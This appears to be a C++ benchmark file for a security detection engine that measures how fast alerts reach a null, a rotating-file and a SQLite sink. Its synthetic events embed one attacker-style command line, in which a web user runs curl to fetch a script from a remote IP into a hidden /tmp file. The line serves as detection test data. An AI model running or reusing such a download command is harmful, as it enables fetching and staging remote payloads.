// Alert path benchmark: detections → AlertManager (JSON, ancestry, metrics) → sink, for the
// rotating file sink and the SQLite store, against a null sink in the same run. Reports
// alerts/s of each and their ratio to the null sink.
//
//   build/bench/bench/alert/wsn_alert_bench [--alerts=N]   (default 200,000)
#include <benchmark/benchmark.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <map>
#include <string>
#include <vector>

#include "alert/alert_manager.h"
#include "alert/sinks/file/rotating_file_sink.h"
#include "alert/sinks/sqlite/sqlite_sink.h"

namespace {

namespace fs = std::filesystem;

uint64_t g_alerts = 200'000;
fs::path g_dir;
std::map<std::string, double> g_rate;  // benchmark → alerts/s (median)

class NullSink final : public wsn::AlertSink {
 public:
  std::string_view name() const override { return "null"; }
  bool write(const wsn::Alert&, std::string_view json) override {
    bytes_ += json.size();
    return true;
  }
  uint64_t bytes_ = 0;
};

// A realistic detection: a process exec with parent, command line, user, host.
std::vector<wsn::Event> make_events(size_t n) {
  std::vector<wsn::Event> out(n);
  for (size_t k = 0; k < n; ++k) {
    wsn::Event& e = out[k];
    e.set_timestamp(wsn::fields::kTimestamp, 1'763'633'643'000'000'000LL + int64_t(k) * 1000);
    e.set_category(wsn::categories::kProcess);
    e.set_string(wsn::fields::kEventAction, "exec");
    e.set_string(wsn::fields::kHostName, "web-01");
    e.set_int(wsn::fields::kProcessPid, 10'000 + int64_t(k));
    e.set_string(wsn::fields::kProcessEntityId, "entity-" + std::to_string(k));
    e.set_string(wsn::fields::kProcessName, "curl");
    e.set_string(wsn::fields::kProcessExecutable, "/usr/bin/curl");
    e.set_string(wsn::fields::kProcessCommandLine,
                 "curl -fsSL http://203.0.113.50:8080/x.sh -o /tmp/.x.sh");
    e.set_int(wsn::fields::kProcessParentPid, 1042);
    e.set_string(wsn::fields::kProcessParentEntityId, "parent");
    e.set_string(wsn::fields::kProcessParentName, "sh");
    e.set_string(wsn::fields::kProcessUserName, "www-data");
  }
  return out;
}

wsn::RuleSet make_rules() {
  wsn::RuleSet set;
  wsn::RuleMeta m;
  m.id = "wsn.bench.curl_to_tmp";
  m.name = "Download to /tmp";
  m.description = "A web worker downloaded a script into /tmp.";
  m.severity = wsn::Severity::kHigh;
  m.tags = {"linux", "attack.command_and_control"};
  m.mitre = {"T1105"};
  set.rules.push_back(m);
  set.generation = 1;
  return set;
}

using SinkFactory = std::unique_ptr<wsn::AlertSink> (*)();

void run_alerts(benchmark::State& state, SinkFactory make) {
  static const std::vector<wsn::Event> events = make_events(1024);
  const wsn::RuleSet set = make_rules();
  for (auto _ : state) {
    state.PauseTiming();
    fs::remove_all(g_dir);
    fs::create_directories(g_dir);
    wsn::FieldRegistry reg;
    wsn::metrics::Registry metrics;
    wsn::AlertManager manager(reg);  // dedupe and throttle off: every detection is written
    manager.set_metrics(&metrics);
    manager.add_sink(make());
    state.ResumeTiming();
    for (uint64_t k = 0; k < g_alerts; ++k) {
      const wsn::Event* e = &events[k % events.size()];
      manager.on_detection(set, 0, {&e, 1});
      if ((k & 255) == 255) manager.flush();  // the engine flushes at every batch boundary
    }
    manager.finish();
    if (manager.stats().sink_failures) state.SkipWithError("sink failures");
  }
  state.SetItemsProcessed(static_cast<int64_t>(g_alerts * state.iterations()));
}

std::unique_ptr<wsn::AlertSink> null_sink() {
  return std::make_unique<NullSink>();
}

std::unique_ptr<wsn::AlertSink> file_sink() {
  auto s = wsn::RotatingFileSink::open(
      {.path = (g_dir / "alerts.jsonl").string(), .max_bytes = uint64_t{1} << 40, .max_files = 2});
  if (!s.ok()) std::abort();
  return std::move(s.value());
}

std::unique_ptr<wsn::AlertSink> sqlite_sink() {
  auto s = wsn::SqliteSink::open({.store = {.path = (g_dir / "alerts.db").string()}});
  if (!s.ok()) std::abort();
  return std::move(s.value());
}

void BM_Null(benchmark::State& s) {
  run_alerts(s, null_sink);
}
void BM_File(benchmark::State& s) {
  run_alerts(s, file_sink);
}
void BM_Sqlite(benchmark::State& s) {
  run_alerts(s, sqlite_sink);
}

class RatioReporter : public benchmark::ConsoleReporter {
 public:
  void ReportRuns(const std::vector<Run>& runs) override {
    for (const Run& r : runs) {
      if (r.run_type != Run::RT_Aggregate || r.aggregate_name != "median") continue;
      const auto it = r.counters.find("items_per_second");
      if (it != r.counters.end()) g_rate[r.run_name.function_name] = it->second;
    }
    ConsoleReporter::ReportRuns(runs);
  }
};

}  // namespace

BENCHMARK(BM_Null)
    ->Unit(benchmark::kMillisecond)
    ->Iterations(1)
    ->Repetitions(5)
    ->ReportAggregatesOnly(true)
    ->UseRealTime();
BENCHMARK(BM_File)
    ->Unit(benchmark::kMillisecond)
    ->Iterations(1)
    ->Repetitions(5)
    ->ReportAggregatesOnly(true)
    ->UseRealTime();
BENCHMARK(BM_Sqlite)
    ->Unit(benchmark::kMillisecond)
    ->Iterations(1)
    ->Repetitions(5)
    ->ReportAggregatesOnly(true)
    ->UseRealTime();

int main(int argc, char** argv) {
  std::vector<char*> args;
  for (int k = 0; k < argc; ++k) {
    if (std::strncmp(argv[k], "--alerts=", 9) == 0) {
      g_alerts = std::stoull(argv[k] + 9);
    } else {
      args.push_back(argv[k]);
    }
  }
  int n = static_cast<int>(args.size());
  benchmark::Initialize(&n, args.data());
  g_dir = fs::temp_directory_path() / ("wsn_alert_bench_" + std::to_string(::getpid()));
  RatioReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  const double null_rate = g_rate["BM_Null"];
  std::printf("\n%llu alerts per run (median of 5)\n", static_cast<unsigned long long>(g_alerts));
  for (const char* b : {"BM_Null", "BM_File", "BM_Sqlite"}) {
    const double r = g_rate[b];
    std::printf("%-10s %12.0f alerts/s   ratio to null sink %.3f\n", b + 3, r,
                null_rate > 0 ? r / null_rate : 0.0);
  }
  fs::remove_all(g_dir);
  benchmark::Shutdown();
  return 0;
}
